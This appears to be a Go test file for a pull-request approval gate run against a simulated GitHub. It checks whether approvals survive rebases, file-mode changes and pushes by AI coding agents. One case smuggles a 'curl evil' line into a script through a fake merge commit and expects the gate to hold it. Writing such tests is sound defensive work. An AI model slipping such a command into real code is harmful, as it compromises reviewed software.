package main

import (
	"strings"
	"testing"

	"github.com/countersign/countersign/gh/ghsim"
)

// moved is main with one more commit that the pull requests of these tests do not touch.
func (w *acme) moved(t *testing.T, repo *ghsim.Repo, files map[string]string) {
	t.Helper()
	repo.Unprotect("main", w.carol)
	repo.Push("main", w.carol, ghsim.Commit{Message: "elsewhere", Files: files})
	repo.Protect("main", w.carol, ghsim.Protection{Approvals: 1, EnforceAdmins: true, Checks: []ghsim.Required{
		{Name: "countersign", App: w.app}, {Name: "test", App: w.sim.Actions()}}})
	w.mustSettle(t)
}

// approvedPull is an agent's pull request of one file on top of a file that main holds too,
// green with bob's approval.
func (w *acme) approvedPull(t *testing.T, name string) (*ghsim.Repo, pull) {
	t.Helper()
	repo := w.guardedRepo(name, "")
	w.moved(t, repo, map[string]string{"shared.go": numbered(40), "run.sh": "#!/bin/sh\necho one\n"})
	pr := w.copilotPullIn(repo, name)
	pr.Push(w.copilot, ghsim.Commit{Message: "more" + w.requestedBy(w.alice), Files: map[string]string{
		"shared.go": strings.Replace(numbered(40), "line 30\n", "line thirty\n", 1), "run.sh": "#!/bin/sh\necho two\n"}})
	w.test(pr, "success")
	w.mustSettle(t)
	pr.Approve(w.bob)
	w.wantCheck(t, pr, released)
	return repo, pr
}

func numbered(n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		b.WriteString("line " + string(rune('0'+i/10)) + string(rune('0'+i%10)) + "\n")
	}
	return b.String()
}

// An approval covers what changed nothing of what was approved, and nothing else.
func TestApprovalsCarryForward(t *testing.T) {
	t.Parallel()
	w := startAcme(t, fast)
	for _, c := range []struct {
		name string
		// update changes the head of an approved pull request.
		update func(t *testing.T, repo *ghsim.Repo, pr pull)
		want   string
		says   string // in the summary
	}{
		{"update-branch", func(t *testing.T, repo *ghsim.Repo, pr pull) {
			w.moved(t, repo, map[string]string{"other.go": "package other\n"})
			mustDo(t, pr.UpdateBranch(w.dave))
		}, released, ""},
		{"update-branch-by-the-approver", func(t *testing.T, repo *ghsim.Repo, pr pull) {
			w.moved(t, repo, map[string]string{"other.go": "package other\n"})
			mustDo(t, pr.UpdateBranch(w.bob))
		}, released, ""},
		{"rebase", func(t *testing.T, repo *ghsim.Repo, pr pull) {
			w.moved(t, repo, map[string]string{"other.go": "package other\n"})
			_, err := pr.Rebase(w.bob)
			mustDo(t, err)
		}, released, ""},
		{"merge-with-a-smuggled-line", func(t *testing.T, repo *ghsim.Repo, pr pull) {
			w.moved(t, repo, map[string]string{"other.go": "package other\n"})
			mustDo(t, pr.UpdateBranch(w.dave))
			pr.Push(w.dave, ghsim.Commit{Message: "Merge branch 'main'", Files: map[string]string{"run.sh": "#!/bin/sh\ncurl evil\n"}})
		}, held, "changed since: run.sh"},
		{"another-file", func(t *testing.T, repo *ghsim.Repo, pr pull) {
			pr.Push(w.copilot, ghsim.Commit{Message: "and this" + w.requestedBy(w.alice), Files: map[string]string{"late.go": "package late\n"}})
		}, held, "changed since: late.go"},
		{"executable", func(t *testing.T, repo *ghsim.Repo, pr pull) {
			pr.Push(w.copilot, ghsim.Commit{Message: "chmod" + w.requestedBy(w.alice), Mode: map[string]string{"run.sh": "100755"}})
		}, held, "changed since: run.sh"},
		{"symbolic-link", func(t *testing.T, repo *ghsim.Repo, pr pull) {
			pr.ForcePush(w.copilot, ghsim.Commit{Message: "link" + w.requestedBy(w.alice), Mode: map[string]string{"run.sh": "120000"}, Files: map[string]string{
				"shared.go": strings.Replace(numbered(40), "line 30\n", "line thirty\n", 1), "run.sh": "#!/bin/sh\necho two\n"}})
		}, held, "changed since: "},
	} {
		t.Run(c.name, func(t *testing.T) {
			repo, pr := w.approvedPull(t, "carry "+c.name)
			old := pr.HeadSHA()
			c.update(t, repo, pr)
			if pr.HeadSHA() == old {
				t.Fatal("the head did not move")
			}
			w.test(pr, "success")
			if got := w.wantCheck(t, pr, c.want); !strings.Contains(got.Summary, c.says) {
				t.Errorf("the summary does not say %q:\n%s", c.says, got.Summary)
			}
		})
	}
}

// What was found once about two commits stays true, so looking again costs the one query.
func TestACarriedApprovalCostsNothingWarm(t *testing.T) {
	t.Parallel()
	w := startAcme(t, fast)
	repo, pr := w.approvedPull(t, "carry warm")
	w.moved(t, repo, map[string]string{"other.go": "package other\n"})
	mustDo(t, pr.UpdateBranch(w.dave))
	w.test(pr, "success")
	w.wantCheck(t, pr, released)
	for range 2 {
		w.sim.ResetRequests()
		repo.CheckRun(w.app, pr.HeadSHA(), "countersign").Press(w.dave, "re-evaluate")
		w.mustSettle(t)
	}
	if n := w.sim.RequestCounts()["POST /graphql"].Requests; n != 1 {
		t.Errorf("%d queries, want 1", n)
	}
	w.wantCheck(t, pr, released)
}

func mustDo(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// Whoever pushed what was reverted, and whoever updated the branch, wrote nothing of it; but
// who wrote what was approved stays its author when history is rewritten around them.
func TestAnAuthorStaysOneAfterARebase(t *testing.T) {
	t.Parallel()
	w := startAcme(t, fast)
	repo := w.guardedRepo("rewritten author", "")
	pr := repo.OpenPullRequest(ghsim.PullSpec{Title: "Fix", Head: "dave/fix", Author: w.dave,
		Commits: []ghsim.Commit{{Message: "fix", Author: w.bob, Files: map[string]string{"fix.go": "package fix\n"}}}})
	w.test(pr, "success")
	w.mustSettle(t)
	pr.Approve(w.bob)
	w.wantCheck(t, pr, held)
	pr.ForcePush(w.dave, ghsim.Commit{Message: "fix", Files: map[string]string{"fix.go": "package fix\n"}})
	w.test(pr, "success")
	w.wantCheck(t, pr, held)
}

// Who calls an agent on a pull request asked for what it pushes then, and who called it on the
// issue that the pull request closes may have asked for all of it.
func TestWhoeverCallsAnAgentCannotApprove(t *testing.T) {
	t.Parallel()
	w := startAcme(t, fast)
	t.Run("comment on the pull request", func(t *testing.T) {
		repo := w.guardedRepo("called", "")
		pr := repo.OpenPullRequest(ghsim.PullSpec{Title: "Fix", Head: "dave/fix", Author: w.dave, Commits: []ghsim.Commit{{Message: "fix", Files: code}}})
		pr.Comment(w.bob, "@devin-ai-integration please rename it")
		w.mustSettle(t)
		pr.Push(w.devin, ghsim.Commit{Message: "rename", Author: w.devin, Files: map[string]string{"name.go": "package name\n"}})
		w.test(pr, "success")
		pr.Approve(w.bob)
		if got := w.wantCheck(t, pr, held); !strings.Contains(got.Summary, "called the agent") {
			t.Errorf("the summary does not say why bob does not count:\n%s", got.Summary)
		}
		pr.Approve(w.carol)
		w.wantCheck(t, pr, released)
	})
	t.Run("thanks after the last push", func(t *testing.T) {
		repo := w.guardedRepo("thanked", "")
		pr := repo.OpenPullRequest(ghsim.PullSpec{Title: "Fix", Head: "dave/fix", Author: w.dave, Commits: []ghsim.Commit{{Message: "fix", Files: code}}})
		pr.Push(w.devin, ghsim.Commit{Message: "rename", Author: w.devin, Files: map[string]string{"name.go": "package name\n"}})
		w.test(pr, "success")
		w.mustSettle(t)
		pr.Comment(w.bob, "thank you @devin-ai-integration")
		pr.Approve(w.bob)
		w.wantCheck(t, pr, released)
	})
	t.Run("issue", func(t *testing.T) {
		repo := w.guardedRepo("from an issue", "")
		issue := repo.OpenIssue(w.bob, "Please", "do it")
		issue.Assign(w.bob, w.devin)
		pr := repo.OpenPullRequest(ghsim.PullSpec{Title: "x", Head: "devin/1700000000-x", Author: w.devin, Commits: []ghsim.Commit{{Message: "x", Author: w.devin, Files: code}}})
		pr.Closes(issue)
		w.test(pr, "success")
		pr.Approve(w.bob)
		pr.Approve(w.alice)
		// The link to the issue is the agent's word: nobody knows for sure who asked.
		w.wantCheck(t, pr, held)
		pr.Approve(w.carol)
		w.wantCheck(t, pr, released)
	})
}

// A change that must have been asked for needs an issue that a person opened before it.
func TestAuthorisedBeforehand(t *testing.T) {
	t.Parallel()
	w := startAcme(t, fast)
	repo := w.guardedRepo("asked for", shopPolicy+"authorisation: {required: true, pattern: \"SHOP-[0-9]+\"}\n")
	early := repo.OpenIssue(w.alice, "Wanted", "")
	pr := w.approved(w.davesPull(repo, code))
	if got := w.wantCheck(t, pr, "failure"); !strings.Contains(got.Title, "asked for it beforehand") {
		t.Errorf("title: %s", got.Title)
	}
	late := repo.OpenIssue(w.alice, "Wanted too late", "")
	pr.Closes(late)
	pr.Approve(w.bob)
	w.wantCheck(t, pr, "failure")
	pr.Closes(early)
	pr.Approve(w.bob)
	w.wantCheck(t, pr, released)
	named := repo.OpenPullRequest(ghsim.PullSpec{Title: "SHOP-12: fix", Head: "dave/two", Author: w.dave, Commits: []ghsim.Commit{{Message: "fix", Files: map[string]string{"two.go": "package two\n"}}}})
	w.wantCheck(t, w.approved(named), released)
}
